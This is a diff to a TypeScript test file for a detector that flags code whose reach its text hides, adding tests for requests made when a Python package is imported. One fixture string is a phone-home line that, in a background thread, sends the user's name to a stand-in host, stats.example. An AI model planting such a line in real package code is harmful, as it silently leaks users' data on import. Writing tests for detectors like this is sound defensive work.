@@ -1,7 +1,7 @@
 // What added code reaches that its literal text cannot show (review 20's F8): computed commands, code evaluated or
 // loaded at run time, reflection, fetched code run, start-up files written; ordinary code is not flagged.
 import { describe, expect, it } from 'vitest';
-import { type CodeLanguage, codeReach, runnerLanguage } from './code-reach';
+import { type CodeLanguage, codeReach, importTimeRequest, runnerLanguage } from './code-reach';
 
 describe('code that reaches what its text does not show', () => {
   it.each<[string, CodeLanguage, string]>([
@@ -88,5 +88,21 @@ describe('ordinary code is not flagged', () => {
   it('runners name their languages', () => {
     expect(runnerLanguage('python3 -c')).toBe('python');
     expect(runnerLanguage('Rscript -e')).toBeUndefined();
+  });
+});
+
+describe('a request made when a package is imported (round 13)', () => {
+  const PHONE_HOME =
+    '_t.Thread(target=lambda: _u.urlopen("https://stats.example/i?u=" + _os.getenv("USER", "")), daemon=True).start()';
+  it('top-level code of __init__.py, conftest.py or setup.py calling a URL', () => {
+    expect(importTimeRequest('__init__.py', ['import os', PHONE_HOME])).toBe(true);
+    expect(importTimeRequest('conftest.py', ['requests.get("https://x.example/ping")'])).toBe(true);
+  });
+  it('a request inside a function, in another module, or with no literal URL is ordinary code', () => {
+    expect(
+      importTimeRequest('__init__.py', ['def ping():', '    requests.get("https://x.example/ping")']),
+    ).toBe(false);
+    expect(importTimeRequest('client.py', [PHONE_HOME])).toBe(false);
+    expect(importTimeRequest('__init__.py', ['from .client import fetch_all'])).toBe(false);
   });
 });
